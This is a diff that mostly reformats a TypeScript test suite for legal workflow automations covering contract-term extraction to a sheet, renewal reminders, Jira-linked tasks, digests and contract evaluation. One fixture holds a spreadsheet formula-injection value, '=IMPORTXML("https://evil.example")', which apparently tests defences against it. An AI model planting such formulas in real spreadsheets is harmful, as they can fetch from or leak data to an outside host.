@@ -21,9 +21,26 @@ afterAll(async () => {
 });
 
 const terms = {
-	parties: '=IMPORTXML("https://evil.example")', term: '2026 to 2028', renewal: 'Yearly.', notice_by: '2028-09-30', risk: 'low', reason: 'Usual terms.',
+	parties: '=IMPORTXML("https://evil.example")',
+	term: '2026 to 2028',
+	renewal: 'Yearly.',
+	notice_by: '2028-09-30',
+	risk: 'low',
+	reason: 'Usual terms.',
 };
-const headings = ['file', 'link', 'parties', 'term', 'renewal', 'notice_by', 'risk', 'reason', 'session', 'checked_by', 'reminded_on'];
+const headings = [
+	'file',
+	'link',
+	'parties',
+	'term',
+	'renewal',
+	'notice_by',
+	'risk',
+	'reason',
+	'session',
+	'checked_by',
+	'reminded_on',
+];
 
 test.each([
 	['its terms become a row', 'completed', `Here it is:\n\`\`\`json\n${JSON.stringify(terms)}\n\`\`\``, true],
@@ -48,18 +65,48 @@ test.each([
 
 test('renewal-reminders.json: contracts that are due soon become a task and a message, once', async () => {
 	const { google, slack } = stage.products;
-	const contract = (file: string, noticeBy: string, checkedBy = '', remindedOn = ''): string[] =>
-		[file, `https://drive.google.com/${file}`, 'Meridian', '', 'Yearly.', noticeBy, 'low', '', '', checkedBy, remindedOn];
-	google.sheet.splice(0, Infinity, headings, contract('soon.pdf', day(20), 'A. Lawyer'), contract('later.pdf', day(60)), contract('past.pdf', day(-3)),
-		contract('reported.pdf', day(10), '', day(-1)), contract('none.pdf', ''), contract('odd.pdf', 'soon'));
+	const contract = (file: string, noticeBy: string, checkedBy = '', remindedOn = ''): string[] => [
+		file,
+		`https://drive.google.com/${file}`,
+		'Meridian',
+		'',
+		'Yearly.',
+		noticeBy,
+		'low',
+		'',
+		'',
+		checkedBy,
+		remindedOn,
+	];
+	google.sheet.splice(
+		0,
+		Infinity,
+		headings,
+		contract('soon.pdf', day(20), 'A. Lawyer'),
+		contract('later.pdf', day(60)),
+		contract('past.pdf', day(-3)),
+		contract('reported.pdf', day(10), '', day(-1)),
+		contract('none.pdf', ''),
+		contract('odd.pdf', 'soon'),
+	);
 	const workflow = await stage.publish('renewal-reminders.json');
 	await stage.run(workflow, 'Weekdays at Eight');
 
-	expect(stage.sandbox.tasks.ordered().map(({ title, complete_by, description }) => [title, complete_by?.slice(0, 10), /Nobody/.test(description ?? '')]).sort()).toEqual([
-		[`Renew or end by ${day(-3)}: past.pdf`, expect.any(String), true],
-		[`Renew or end by ${day(20)}: soon.pdf`, expect.any(String), false],
-	].sort());
-	expect(slack.calls.map(({ body }) => String(body.text).split(' (')[0])).toEqual([`Renew or end by ${day(20)}: soon.pdf`, `Renew or end by ${day(-3)}: past.pdf`]);
+	expect(
+		stage.sandbox.tasks
+			.ordered()
+			.map(({ title, complete_by, description }) => [title, complete_by?.slice(0, 10), (description ?? '').includes('Nobody')])
+			.sort(),
+	).toEqual(
+		[
+			[`Renew or end by ${day(-3)}: past.pdf`, expect.any(String), true],
+			[`Renew or end by ${day(20)}: soon.pdf`, expect.any(String), false],
+		].sort(),
+	);
+	expect(slack.calls.map(({ body }) => String(body.text).split(' (')[0])).toEqual([
+		`Renew or end by ${day(20)}: soon.pdf`,
+		`Renew or end by ${day(-3)}: past.pdf`,
+	]);
 	expect(google.sheet.map((cells) => cells[10] !== '')).toEqual([true, true, false, true, true, false, false]);
 
 	await stage.run(workflow, 'Weekdays at Eight');
@@ -82,7 +129,11 @@ test('jira-tasks.json: a request becomes one task, and is resolved once the task
 	}
 	const [task, ...others] = stage.sandbox.tasks.ordered();
 	expect(others).toEqual([]);
-	expect(task).toMatchObject({ title: 'LEGAL-12: NDA with Meridian', description: 'Please review.', tags: ['jira', 'jira-LEGAL-12'] });
+	expect(task).toMatchObject({
+		title: 'LEGAL-12: NDA with Meridian',
+		description: 'Please review.',
+		tags: ['jira', 'jira-LEGAL-12'],
+	});
 	expect(jira.told.map(({ call }) => call)).toEqual(['LEGAL-12/comment']);
 	expect(JSON.stringify(jira.told[0]?.body)).toContain(`The legal team has your request: ${task?.display_id ?? ''}.`);
 
@@ -114,14 +165,23 @@ test('task-digest.json: due tasks are listed, late ones are escalated once, comp
 	const sent = stage.smtp.emails.map(({ to, subject, text }) => [to.text, subject, text?.trim().split('\n').length]);
 	const digest = ['legal-team@example.com', 'Legal tasks due by tomorrow: 62', 51];
 	expect(sent.sort()).toEqual([['head-of-legal@example.com', 'Legal tasks more than two weeks late: 1', 1], digest, digest]);
-	expect(stage.smtp.emails.map(({ text }) => text ?? '')).toContainEqual(expect.stringMatching(/^- LEGAL-\d+ Weeks late \(due \w+ \d+\)\s*$/));
-	expect([late, known, completed].map(({ tags, archived }) => [tags, archived])).toEqual([[['nda', 'escalated'], false], [['escalated'], false], [[], true]]);
+	expect(stage.smtp.emails.map(({ text }) => text ?? '')).toContainEqual(
+		expect.stringMatching(/^- LEGAL-\d+ Weeks late \(due \w+ \d+\)\s*$/),
+	);
+	expect([late, known, completed].map(({ tags, archived }) => [tags, archived])).toEqual([
+		[['nda', 'escalated'], false],
+		[['escalated'], false],
+		[[], true],
+	]);
 	expect(tasks.ordered().filter(({ archived }) => archived)).toEqual([completed]);
 });
 
 test('evaluation.json: 20 contracts are reviewed in one execution, and the verdicts are counted', async () => {
 	const fileStore = fastify({ forceCloseConnections: true });
-	fileStore.get<{ Params: { file: string } }>('/contracts/:file', async ({ params }, reply) => await reply.type('application/pdf').send(Buffer.from(`%PDF-1.4 ${params.file}`)));
+	fileStore.get<{ Params: { file: string } }>(
+		'/contracts/:file',
+		async ({ params }, reply) => await reply.type('application/pdf').send(Buffer.from(`%PDF-1.4 ${params.file}`)),
+	);
 	const origin = await fileStore.listen({ port: 0, host: '127.0.0.1' });
 	const verdicts = ['accept', 'negotiate', 'reject'];
 	stage.sandbox.settings.answer = ({ attachments: [contract] }) => {
